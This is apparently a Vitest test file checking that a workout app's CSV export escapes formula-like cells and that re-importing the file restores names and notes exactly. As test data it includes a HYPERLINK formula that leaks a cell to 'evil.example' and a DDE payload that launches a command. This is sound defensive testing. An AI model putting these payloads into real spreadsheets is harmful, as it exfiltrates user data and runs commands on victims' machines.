import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { WorkoutDay } from '#shared/contract/workout-days.ts'
import type { WorkoutWithSets } from '#shared/contract/workouts.ts'
import { buildTestApp, type TestApp, type TestUser } from '../support/build-test-app.ts'
import { factories } from '../support/factories.ts'

/**
 * docs/product/trust-accounts-and-devices.md, an export is data, never a formula: a sender names a shared day's exercise
 * as a formula; the recipient accepts, logs it and exports; no cell runs in a spreadsheet, and
 * importing the file back gives every name and note exactly as it was.
 */
let t: TestApp
let f: ReturnType<typeof factories>
beforeAll(async () => {
  t = await buildTestApp()
  f = factories(t)
})
afterAll(() => t.close())

const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
const NAMES = [FORMULA, '+Cable Fly', '-5 Tempo Squat', '@Row', "'=already quoted"]

/** The cells of a CSV line (quoted fields, `""` escapes, no newlines inside in these files). */
const cells = (line: string) =>
  [...line.matchAll(/(?:"((?:[^"]|"")*)"|([^,]*))(?:,|$)/g)]
    .filter((m) => m.index < line.length)
    .map((m) => (m[1] ?? m[2] ?? '').replaceAll('""', '"'))

async function recipientWhoLoggedTheShare() {
  const sender = await t.register()
  const recipient = await t.register()
  const share = await f.call<{ id: string }>(
    sender,
    'POST',
    '/api/shares',
    {
      recipientEmail: recipient.email,
      workoutDayData: [
        { name: '=cmd|"/c calc"!A1', exercises: NAMES.map((name) => ({ name, sets: [] })) },
      ],
    },
    201,
  )
  await f.call(recipient, 'POST', `/api/shares/${share.id}/accept`)
  const [day] = await f.call<WorkoutDay[]>(recipient, 'GET', '/api/workout-days')
  await f.completedWorkout(
    recipient,
    day!.id,
    '2025-04-01T10:00:00.000Z',
    NAMES.map((exerciseName, i) => ({
      exerciseName,
      weight: String(100 + i),
      reps: 5,
      notes: i === 0 ? '-5 reps, @ the end' : i === 1 ? '\tfaster' : null,
    })),
  )
  return recipient
}

const exportCsv = async (user: TestUser) => {
  const res = await t.injectAs(user, { url: '/api/export?format=csv' })
  expect(res.statusCode).toBe(200)
  return res.body
}

describe('the CSV export of a shared day named as formulas', () => {
  it('writes every formula-like cell with a leading quote', async () => {
    const recipient = await recipientWhoLoggedTheShare()
    const [header, ...lines] = (await exportCsv(recipient)).trimEnd().split('\n')
    expect(header).toMatch(/^Date,Workout Name,/)
    expect(lines).toHaveLength(NAMES.length)
    for (const line of lines) {
      for (const cell of cells(line)) expect(cell, line).not.toMatch(/^[=+\-@\t\r]/)
    }
    const first = cells(lines[0]!)
    expect(first[1]).toBe(`'=cmd|"/c calc"!A1`)
    expect(first[3]).toBe(`'${FORMULA}`)
    expect(first[9]).toBe(`'-5 reps, @ the end`)
    expect(cells(lines[1]!)[9]).toBe(`'\tfaster`)
    expect(cells(lines[4]!)[3]).toBe(`''=already quoted`)
  })

  it('imports back exactly: names, notes and volumes as they were', async () => {
    const recipient = await recipientWhoLoggedTheShare()
    const file = await exportCsv(recipient)
    const fresh = await t.register()
    const res = await t.injectAs(fresh, {
      method: 'POST',
      url: '/api/imports?unit=lbs',
      headers: { 'content-type': 'text/csv' },
      payload: file,
    })
    expect(res.statusCode, res.body).toBe(201)
    const shape = (workouts: WorkoutWithSets[]) =>
      workouts.map((w) => ({
        name: w.workoutDayName,
        volume: w.totalVolume,
        sets: w.sets.map((s) => [s.exerciseName, s.weight, s.reps, s.notes]),
      }))
    const [original, imported] = await Promise.all(
      [recipient, fresh].map((user) =>
        f.call<WorkoutWithSets[]>(user, 'GET', '/api/workouts-with-sets'),
      ),
    )
    expect(shape(imported!)).toEqual(shape(original!))
    expect(imported![0]!.sets.map((s) => s.exerciseName)).toEqual(NAMES)
    // And once more: the file the imported account exports is the same file.
    expect(await exportCsv(fresh)).toBe(file)
  })
})
